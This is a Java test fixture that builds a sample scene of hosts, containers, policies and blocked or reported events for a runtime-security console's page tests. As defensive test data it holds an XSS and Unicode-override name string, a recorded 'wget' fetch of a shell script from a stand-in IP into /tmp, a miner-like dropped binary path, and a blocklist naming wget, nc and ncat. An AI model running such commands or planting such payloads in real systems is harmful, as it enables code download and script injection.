package dev.sekisho.manager.console;

import dev.sekisho.manager.store.HostState;
import dev.sekisho.manager.store.OverviewFigures.HourCount;
import dev.sekisho.manager.store.PolicyRevision;
import dev.sekisho.manager.store.StoredDecision;
import dev.sekisho.manager.store.StoredPolicy;
import dev.sekisho.manager.store.WorkloadState;
import dev.sekisho.model.Action;
import dev.sekisho.model.Actor;
import dev.sekisho.model.Assurance;
import dev.sekisho.model.Assurance.Level;
import dev.sekisho.model.Container;
import dev.sekisho.model.Decision;
import dev.sekisho.model.Digest;
import dev.sekisho.model.Event;
import dev.sekisho.model.Executable;
import dev.sekisho.model.Executable.Origin;
import dev.sekisho.model.FailMode;
import dev.sekisho.model.Gap;
import dev.sekisho.model.Host;
import dev.sekisho.model.Image;
import dev.sekisho.model.Mechanism;
import dev.sekisho.model.Mode;
import dev.sekisho.model.Phrase;
import dev.sekisho.model.Verdict;
import dev.sekisho.model.Workload;
import dev.sekisho.policy.ApplyChanges;
import dev.sekisho.policy.Clause;
import dev.sekisho.policy.Control;
import dev.sekisho.policy.DriftPrevention;
import dev.sekisho.policy.EffectivePolicy;
import dev.sekisho.policy.ExecutableBlocklist;
import dev.sekisho.policy.ForkGuard;
import dev.sekisho.policy.PathPattern;
import dev.sekisho.wire.AgentApi.HostReport;
import dev.sekisho.wire.AgentApi.RunningProcess;
import dev.sekisho.wire.AgentApi.SpoolState;
import dev.sekisho.wire.AgentApi.WorkloadReport;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Optional;
import java.util.OptionalInt;
import java.util.Set;

/**
 * A small shop with two hosts, as pages show it: some of it holds, some does not, and an attacker
 * has given names to things.
 */
final class Scene {
  /** The scene of tests that draw pages without a manager. */
  static final Scene FIXED =
      new Scene(Instant.parse("2026-11-25T05:31:52.418Z"), "3f0c7d1e-web", "91ab-batch");

  final Instant now;
  final Host web;
  final Host batch;
  final Workload shop;
  final Workload search;
  final Workload legacy;
  final Workload preview;
  final Workload attacker;

  /** Markup, a direction override, a control character and a line feed in one name. */
  static final String HOSTILE =
      "<img src=x onerror=alert(1)>\u202Egnp.exe\u0007\n\"'`&{reader.name}";

  private static final Control BLOCKLIST =
      new ExecutableBlocklist(
          List.of(new PathPattern("wget"), new PathPattern("nc")),
          List.of(new PathPattern("/usr/bin/ncat")));
  private static final Control DRIFT =
      new DriftPrevention(
          true, false, false, List.of(new PathPattern("/var/lib/app/plugins/**")), List.of());
  private static final Control FORK = new ForkGuard(OptionalInt.of(100), OptionalInt.empty());

  /**
   * A scene.
   *
   * @param now when it is
   * @param web id of the host of the shop
   * @param batch id of the other host
   */
  Scene(Instant now, String web, String batch) {
    this.now = now;
    this.web = host(web, "edge-tyo-1", "Debian GNU/Linux 12 (bookworm)");
    this.batch = host(batch, "build-osa-1", "Ubuntu 20.04.6 LTS");
    this.shop = workload(this.web, "shop-frontend", "registry.example/shop/frontend:3.2.1");
    this.search = workload(this.web, "catalog-search", "registry.example/shop/search:1.9");
    this.legacy = workload(this.batch, "legacy-batch", "legacy/batch:2017");
    this.preview = workload(this.batch, "cms-preview", "cms:latest");
    this.attacker = workload(this.batch, HOSTILE, HOSTILE);
  }

  Situation situation() {
    return new Situation(
        List.of(
            hostState(batch, HostState.Status.LATE, 312),
            hostState(web, HostState.Status.CONNECTED, 0)),
        protections(),
        policies(),
        hours(),
        decisions());
  }

  static Situation empty() {
    return new Situation(List.of(), List.of(), List.of(), List.of(), List.of());
  }

  List<Protection> protections() {
    return List.of(
        protection(
            shop,
            List.of(
                held("executableBlocklist", Level.PROVED, "fanotify"),
                held("driftPrevention", Level.PROVED, "fanotify"),
                held("forkGuard", Level.CLAIMED, "bpf-fork")),
            clause(0, "shop-frontend", BLOCKLIST, Mode.ENFORCE),
            clause(1, "baseline", BLOCKLIST, Mode.AUDIT),
            clause(2, "baseline", DRIFT, Mode.ENFORCE),
            clause(3, "baseline", FORK, Mode.ENFORCE)),
        protection(
            search,
            List.of(
                held("executableBlocklist", Level.PROVED, "fanotify"),
                held("driftPrevention", Level.PROVED, "fanotify"),
                held("forkGuard", Level.PROVED, "bpf-fork")),
            clause(0, "baseline", BLOCKLIST, Mode.AUDIT),
            clause(1, "baseline", DRIFT, Mode.AUDIT),
            clause(2, "baseline", FORK, Mode.AUDIT)),
        protection(
            legacy,
            List.of(
                new Assurance(
                    "executableBlocklist",
                    Level.FAILED,
                    "fanotify",
                    Optional.of(Phrase.of("assurance.no-mechanism", "the mark was lost"))),
                new Assurance(
                    "driftPrevention",
                    Level.DETECT_ONLY,
                    "bpf-exec",
                    Optional.of(Phrase.of("assurance.drift.scripts-missing", "Linux 5.4"))),
                new Assurance(
                    "forkGuard",
                    Level.NOT_POSSIBLE,
                    "",
                    Optional.of(Phrase.of("assurance.no-mechanism", "kernel 5.4 has no BTF")))),
            clause(0, "baseline", BLOCKLIST, Mode.ENFORCE),
            clause(1, "baseline", DRIFT, Mode.ENFORCE),
            clause(2, "baseline", FORK, Mode.ENFORCE)),
        protection(preview, List.of()),
        protection(attacker, List.of()));
  }

  List<StoredDecision> decisions() {
    List<StoredDecision> all = new ArrayList<>();
    all.add(stored(9, shop, wget(now.minusSeconds(4)), enforced("shop-frontend"), Action.DENIED));
    for (int i = 0; i < 3; i++) {
      all.add(
          stored(
              8 - i,
              search,
              dropped(now.minusSeconds(120 + i), "/tmp/.x/kdevtmpfsi"),
              drift(Mode.ENFORCE),
              Action.KILLED));
    }
    all.add(stored(5, search, wget(now.minusSeconds(2040)), audited("baseline"), Action.REPORTED));
    all.add(
        stored(
            4,
            legacy,
            new Event.ScriptRead(
                now.minusSeconds(3120),
                actor("sh"),
                executable("/var/tmp/cleanup.sh", Origin.WRITTEN)),
            drift(Mode.ENFORCE),
            Action.DETECTED_ONLY));
    all.add(
        stored(
            3,
            legacy,
            new Event.ProcessLimitReached(
                now.minus(Duration.ofHours(3)),
                actor("nightly"),
                Event.ProcessLimitReached.Limit.BELOW_ONE_PROCESS,
                101,
                100,
                1),
            new Verdict(
                Mode.ENFORCE,
                List.of(reason("baseline", "forkGuard", Mode.ENFORCE, "maxProcesses: 100"))),
            Action.DENIED));
    all.add(
        stored(
            2,
            attacker,
            dropped(now.minus(Duration.ofHours(5)), "/tmp/" + HOSTILE),
            drift(Mode.AUDIT),
            Action.REPORTED));
    all.add(
        new StoredDecision(
            1,
            now.minus(Duration.ofDays(2)),
            batch.logicalName(),
            new Decision(
                new Decision.Key(batch.id(), 1, 1),
                Optional.empty(),
                new Event.Notice(
                    now.minus(Duration.ofDays(2)),
                    "events-lost",
                    dev.sekisho.model.Severity.MEDIUM,
                    Map.of("count", "312")),
                Verdict.NONE,
                Action.RECORDED,
                "bpf-ring",
                7)));
    return all;
  }

  List<StoredPolicy> policies() {
    return List.of(
        policy("baseline", Mode.AUDIT, "For every container"),
        policy("shop-frontend", Mode.ENFORCE, "Internet-facing web tier"));
  }

  List<PolicyRevision> history() {
    return List.of(
        new PolicyRevision(
            2,
            "mode: enforce\ncontrols:\n  forkGuard: {maxProcesses: 100}\n",
            "admin",
            now.minus(Duration.ofDays(1)),
            PolicyRevision.Change.CHANGED),
        new PolicyRevision(
            1,
            "mode: audit\ncontrols:\n  forkGuard: {maxProcesses: 100}\n",
            "admin",
            now.minus(Duration.ofDays(2)),
            PolicyRevision.Change.CREATED));
  }

  WorkloadState state(Workload workload, List<Assurance> assurances) {
    return new WorkloadState(
        workload.host().logicalName(),
        now.minusSeconds(workload.host().equals(batch) ? 400 : 4),
        workload.host().equals(batch),
        new WorkloadReport(
            workload,
            now.minus(Duration.ofHours(30)),
            List.of(),
            assurances,
            List.of(
                process(1200, 1199, "php-fpm"),
                process(1210, 1200, "php-fpm", "--pool", "www"),
                process(1222, 1210, "sh", "-c", "sleep 60; echo '" + HOSTILE + "'")),
            0));
  }

  private RunningProcess process(int pid, int parent, String... arguments) {
    return new RunningProcess(
        pid,
        parent,
        "www-data",
        "/usr/bin/" + arguments[0],
        List.of(arguments),
        now.minusSeconds(4000 - pid));
  }

  private Protection protection(Workload workload, List<Assurance> assurances, Clause... clauses) {
    List<String> names = List.of(clauses).stream().map(Clause::policy).distinct().sorted().toList();
    return new Protection(
        state(workload, assurances),
        new EffectivePolicy(7, names, List.of(clauses), List.of(), List.of()));
  }

  private static Assurance held(String control, Level level, String mechanism) {
    return new Assurance(control, level, mechanism, Optional.empty());
  }

  private static Clause clause(int id, String policy, Control control, Mode mode) {
    return new Clause(id, policy, control, mode, FailMode.OPEN, ApplyChanges.LIVE, Set.of(), false);
  }

  private static Host host(String id, String name, String system) {
    return new Host(id, name, name, "shop", Map.of("site", "tokyo"), List.of("192.0.2.7"), system);
  }

  private static Workload workload(Host host, String name, String image) {
    String id = "4be1c09a77d2".repeat(5) + "%04x".formatted(name.hashCode() & 0xffff);
    return new Workload(
        id,
        host,
        Optional.of(
            new Container(
                id,
                name,
                "docker",
                Map.of("com.example.team", "shop"),
                Set.of("PATH", "SHOP_MODE"),
                "",
                "runc")),
        Optional.of(
            new Image(
                image,
                new Digest("sha256", "0".repeat(60) + "beef"),
                List.of(),
                "registry.example",
                "shop/frontend",
                "3.2.1",
                "amd64",
                "linux",
                Map.of(),
                Set.of())),
        Optional.empty(),
        Optional.empty(),
        Set.of());
  }

  HostState hostState(Host host, HostState.Status status, long lost) {
    Instant seen = status == HostState.Status.LATE ? now.minusSeconds(400) : now.minusSeconds(3);
    return new HostState(
        host,
        status,
        "0.1.0",
        now.minus(Duration.ofDays(12)),
        "admin",
        Optional.of(now.plus(Duration.ofHours(19))),
        Optional.of(seen),
        Optional.of(
            new HostReport(
                seen,
                now.minus(Duration.ofDays(3)),
                "0.1.0",
                host,
                status == HostState.Status.LATE ? 6 : 7,
                Map.of("executableBlocklist", 1, "driftPrevention", 1, "forkGuard", 1),
                List.of(
                    new Mechanism("fanotify", true, "Linux 6.18"),
                    new Mechanism("bpf-exec", status != HostState.Status.LATE, "BTF is there"),
                    new Mechanism("bpf-fork", true, "loaded")),
                List.of(),
                new SpoolState(lost / 10, 0, 2_400_000, 536_870_912),
                lost == 0 ? Map.of() : Map.of("ring-full", lost),
                lost == 0
                    ? List.of()
                    : List.of(new Gap("/var/lib/docker/vfs", "the vfs driver shows no layers")))),
        3);
  }

  private StoredPolicy policy(String name, Mode mode, String description) {
    return new StoredPolicy(
        name,
        StoredPolicy.Kind.POLICY,
        14,
        """
        apiVersion: sekisho.dev/v1
        kind: Policy
        metadata: {name: %s, description: %s}
        scope: image.repository.startsWith("shop/")
        mode: %s
        controls:
          executableBlocklist: {names: [wget, nc], paths: ["/usr/bin/ncat"]}
          driftPrevention: {executables: true, allow: ["/var/lib/app/plugins/**"]}
          forkGuard: {maxProcesses: 100}
        """
            .formatted(name, description, mode.name().toLowerCase(Locale.ROOT)),
        true,
        mode,
        description,
        now.minus(Duration.ofDays(7)),
        "admin",
        now.minus(Duration.ofDays(2)));
  }

  private List<HourCount> hours() {
    List<HourCount> counts = new ArrayList<>();
    Instant first = Instant.parse("2026-11-24T06:00:00Z");
    for (int i = 0; i < 24; i++) {
      Instant hour = first.plus(Duration.ofHours(i));
      counts.add(
          new HourCount(hour, Mode.AUDIT, Action.REPORTED, "executableBlocklist", i * 7 % 13));
      counts.add(new HourCount(hour, Mode.ENFORCE, Action.DENIED, "driftPrevention", i * 5 % 6));
    }
    counts.add(
        new HourCount(
            first.plus(Duration.ofHours(21)),
            Mode.ENFORCE,
            Action.DETECTED_ONLY,
            "driftPrevention",
            2));
    return counts;
  }

  static StoredDecision stored(
      long number, Workload workload, Event event, Verdict verdict, Action action) {
    return new StoredDecision(
        number,
        event.at().plusMillis(40),
        workload.host().logicalName(),
        new Decision(
            new Decision.Key(workload.host().id(), 1, number),
            Optional.of(workload),
            event,
            verdict,
            action,
            action == Action.KILLED ? "bpf-exec" : "fanotify",
            7));
  }

  static Event wget(Instant at) {
    return new Event.ProcessStarted(
        at,
        actor("sh"),
        new Executable("/bin/busybox", Set.of("/usr/bin/wget", "wget"), true, Origin.IMAGE, 1, 2),
        List.of("wget", "http://203.0.113.9/x.sh", "-O", "/tmp/x"),
        false,
        Optional.empty());
  }

  static Event dropped(Instant at, String path) {
    return new Event.ProcessStarted(
        at, actor("sh"), executable(path, Origin.WRITTEN), List.of(path), false, Optional.empty());
  }

  private static Executable executable(String path, Origin origin) {
    return new Executable(path, Set.of(path), false, origin, 1, 2);
  }

  private static Actor actor(String command) {
    return new Actor(
        41822,
        1,
        33,
        "www-data",
        33,
        command,
        List.of(new Actor.Parent(41800, "php-fpm"), new Actor.Parent(1200, "php-fpm")));
  }

  static Verdict enforced(String policy) {
    return new Verdict(
        Mode.ENFORCE,
        List.of(
            reason(policy, "executableBlocklist", Mode.ENFORCE, "names: wget"),
            reason("baseline", "executableBlocklist", Mode.AUDIT, "names: wget")));
  }

  private static Verdict audited(String policy) {
    return new Verdict(
        Mode.AUDIT, List.of(reason(policy, "executableBlocklist", Mode.AUDIT, "names: wget")));
  }

  private static Verdict drift(Mode mode) {
    return new Verdict(
        mode, List.of(reason("baseline", "driftPrevention", mode, "executables: true")));
  }

  private static Verdict.Reason reason(String policy, String control, Mode mode, String rule) {
    return new Verdict.Reason(
        policy,
        control,
        mode,
        rule,
        Phrase.of("fact.blocklist", "wget", "/bin/busybox"),
        List.of(
            Phrase.of("pass.exception", policy, "wget"),
            Phrase.of("pass.blocklist.remove", "wget")),
        "");
  }
}
